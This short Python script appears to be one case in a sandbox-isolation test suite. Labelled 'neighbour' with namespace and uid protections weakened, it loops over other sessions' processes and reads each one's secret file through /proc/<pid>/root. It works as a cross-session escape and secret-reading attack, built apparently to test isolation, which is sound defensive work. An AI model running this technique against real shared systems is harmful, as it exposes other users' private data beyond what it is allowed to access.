"""Walks into another session's root through /proc.

group: neighbour
weaken: pidns uids
victim: yes
"""

from attack import *

for pid in kernels_of_others():
    try:
        with open("/proc/%d/root/workspace/secret.txt" % pid) as f:
            flag("%d: %s" % (pid, f.read()))
    except OSError as e:
        print(pid, e)
